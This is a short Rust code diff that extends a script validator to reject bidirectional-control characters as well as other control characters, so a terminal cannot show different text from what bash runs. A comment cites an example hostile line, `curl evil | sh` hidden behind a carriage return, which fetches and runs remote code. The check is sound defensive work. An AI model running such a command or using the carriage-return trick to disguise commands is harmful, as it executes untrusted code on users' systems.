@@ -48,10 +48,9 @@ pub fn run_script(cx: &mut Cx, node: &Node, what: &str) -> Option<Command> {
     }
     // A carriage return or an escape sequence makes a terminal show something other than
     // what bash will run (`curl evil | sh #\r echo hello` reads as `echo hello`).
-    if let Some((at, c)) = script
-        .char_indices()
-        .find(|&(_, c)| c.is_control() && c != '\n' && c != '\t')
-    {
+    if let Some((at, c)) = script.char_indices().find(|&(_, c)| {
+        (c.is_control() && c != '\n' && c != '\t') || crate::text_safety::is_bidi_control(c)
+    }) {
         cx.error(
             Diagnostic::error(
                 pos_in(node, at),
